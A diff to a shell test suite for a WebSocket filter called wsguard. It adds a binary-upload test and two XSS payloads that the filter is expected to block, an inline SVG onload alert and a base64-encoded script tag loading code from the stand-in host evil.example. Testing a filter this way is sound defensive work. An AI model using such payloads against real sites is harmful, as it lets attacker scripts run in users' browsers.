@@ -131,6 +131,16 @@ conn=$(J get "$WLOG" conn event=open "src=$(remote_of uma)")
 ok "protocol: wsguard logged drop, reason unmasked_client_frame, for uma's connection ($conn)" \
 	wait_json 3 "$WLOG" event=drop reason=unmasked_client_frame "conn=$conn"
 ok "protocol: the backend never received it" not J has "$BLOG" kind=message name=uma
+joined peggy walter || bail "peggy and walter could not connect"
+client bob "binary a harmless file, line one"
+wait_json 5 "$(cout bob)" event=sent "binary=a harmless file, line one"
+seq=$(J get "$(cout bob)" seq event=sent "binary=a harmless file, line one")
+ok "binary: bob's upload (a Socket.IO binary event) is acknowledged" \
+	wait_json 5 "$(cout bob)" event=ack "seq=${seq:-none}"
+ok "binary: the backend received its attachment intact" \
+	wait_json 3 "$BLOG" kind=message name=bob event=upload "args~a harmless file, line one"
+SEND=binary attack peggy xss '<svg onload=alert(document.domain)>' bob carol
+attack walter xss 'PHNjcmlwdCBzcmM9Ly9ldmlsLmV4YW1wbGUveC5qcz48L3NjcmlwdD4=' bob carol
 client bob "say still fine here"
 ok "bob and carol are unaffected by the attacks" got carol bob "still fine here"
 
@@ -150,7 +160,7 @@ client zed "say compressed and still fine"
 ok "dora and zed are unaffected" got dora zed "compressed and still fine"
 
 # --- 6. stop wsguard: nothing left attached, the chat goes on -------------------------------
-ok "exactly six blocks in the wsguard log" test "$(J count "$WLOG" event=verdict verdict=block)" -eq 6
+ok "exactly eight blocks in the wsguard log" test "$(J count "$WLOG" event=verdict verdict=block)" -eq 8
 if [ -n "$WSG_PID" ]; then
 	stop_wsguard
 	ok "wsguard exits 0 on SIGTERM" test $? -eq 0
